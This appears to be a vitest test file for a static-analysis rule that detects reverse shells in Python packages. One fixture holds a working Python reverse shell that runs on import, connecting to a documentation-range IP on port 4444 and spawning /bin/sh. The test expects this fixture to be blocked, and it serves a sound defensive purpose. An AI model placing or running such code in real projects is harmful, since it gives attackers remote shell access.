import { expect, it } from 'vitest'
import { findInCode } from '../code-rule.test-support.ts'
import { rule } from './reverse-shell.ts'

const find = (files: Readonly<Record<string, string>>): Promise<unknown> => findInCode(rule, files)

it('blocks a shell that is joined to a socket on import', async () => {
  expect(
    await find({
      'demo/__init__.py':
        "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
    }),
  ).toEqual([['block', 'demo/__init__.py', 4, true]])
})

it('leaves a client of a protocol alone', async () => {
  expect(
    await find({
      'demo/__init__.py': "import socket\ndef ask(h):\n    s = socket.create_connection((h, 7))\n    s.sendall(b'x')\n",
    }),
  ).toEqual([])
})
